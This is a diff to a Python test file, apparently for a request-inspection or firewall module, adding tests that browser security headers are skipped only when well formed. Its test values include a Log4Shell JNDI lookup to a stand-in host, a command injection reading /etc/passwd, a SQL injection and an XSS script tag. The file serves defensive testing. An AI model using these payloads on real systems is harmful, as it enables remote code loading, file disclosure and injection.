@@ -258,7 +258,6 @@ def test_header_and_cookie_inputs() -> None:
         (Source.HEADER, "user-agent", "sqlmap/1.7", "sqlmap/1.7"),
         (Source.HEADER, "content-type", "application/json", "application/json"),
         (Source.HEADER, "referer", "https://x.test/?q=%3Cscript%3E", "https://x.test/?q=<script>"),
-        (Source.HEADER, "sec-fetch-mode", "cors", "cors"),
         (Source.HEADER, "x-custom-id", "abc", "abc"),
         (Source.HEADER, "x-forwarded-for", "1.2.3.4", "1.2.3.4"),
         (Source.COOKIE_KEY, "session", "session", "session"),
@@ -363,3 +362,28 @@ def test_fuzz_never_crashes_and_yields_valid_text() -> None:
             continue
         for value in values:
             value.text.encode("utf-8")
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "inspected"),
+    [
+        ("Sec-Fetch-Mode", "cors", False),
+        ("Sec-Fetch-User", "?1", False),
+        ("Sec-CH-UA-Platform", '"Windows"', False),
+        ("Sec-CH-UA", '"Chromium";v="128", "Not;A=Brand";v="24", "Google Chrome";v="128"', False),
+        (
+            "Sec-CH-UA-Full-Version-List",
+            '"Not)A;Brand";v="99.0.0.0", "Edge";v="127.0.2651.98"',
+            False,
+        ),
+        ("Sec-Fetch-Dest", "${jndi:ldap://x.test/a}", True),
+        ("Sec-CH-UA", '";cat /etc/passwd";v="1"', True),
+        ("Sec-CH-UA-Platform", "\"x' OR '1'='1\"", True),
+        ("Sec-Anything", "<script>alert(1)</script>", True),
+    ],
+)
+def test_browser_sec_headers_are_skipped_only_in_their_exact_shape(
+    name: str, value: str, inspected: bool
+) -> None:
+    values = request_head_inputs(_request("/", "", [(name, value)]), LIMITS)
+    assert any(v.location.name == name.lower() for v in values) is inspected
